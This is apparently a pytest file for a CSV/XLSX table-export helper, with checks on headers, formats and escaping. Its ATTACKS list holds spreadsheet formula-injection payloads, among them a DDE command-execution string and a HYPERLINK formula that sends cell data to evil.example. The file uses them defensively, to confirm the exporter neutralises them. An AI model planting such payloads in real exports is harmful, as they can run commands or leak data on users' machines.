import csv
import io

import pytest
from openpyxl import load_workbook

from kotacerdas.lib.export import table_response


def test_a_csv_export_keeps_the_notice_header_and_rows():
    response = table_response("regions", ["code", "name"], [["63.03", "Kabupaten Banjar"]], "csv", notice="DEMO")
    assert response["Content-Disposition"] == 'attachment; filename="regions.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["DEMO"], ["code", "name"], ["63.03", "Kabupaten Banjar"]]


def test_an_xlsx_export_opens_in_openpyxl():
    response = table_response("regions", ["code", "population"], [["63.03", 600000]], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [["code", "population"], ["63.03", 600000]]


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError):
        table_response("regions", ["code"], [], "pdf")


# Found by the outside tester: an operator's answer became a live formula in the XLSX export and
# raw in the CSV, and one answer with a control character made the whole XLSX export fail.
ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]


def test_a_text_that_looks_like_a_formula_is_written_as_text_in_xlsx():
    response = table_response("answers", ["answer"], [[text] for text in ATTACKS], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ATTACKS
    assert {cell.data_type for cell in cells} == {"s"}


def test_a_text_that_looks_like_a_formula_is_quoted_in_csv():
    response = table_response("answers", ["answer"], [[text] for text in ATTACKS] + [[-5], ["5-2"]], "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in ATTACKS] + ["-5", "5-2"]


def test_characters_a_spreadsheet_cannot_hold_are_replaced_not_fatal():
    odd = ["a\x00b", "bell\x07", "esc\x1b[31m", "a\ud800b", "x" * 40_000, "tab\tand\nnewline"]
    response = table_response("answers", ["answer"], [[text] for text in odd], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values[:4] == ["a\ufffdb", "bell\ufffd", "esc\ufffd[31m", "a\ufffdb"]
    assert len(values[4]) == 32_767 and values[4].endswith("…")
    assert values[5] == "tab\tand\nnewline"
    csv_response = table_response("answers", ["answer"], [["a\ud800b"], ["nul\x00"]], "csv")
    assert "a\ufffdb" in csv_response.content.decode("utf-8-sig")
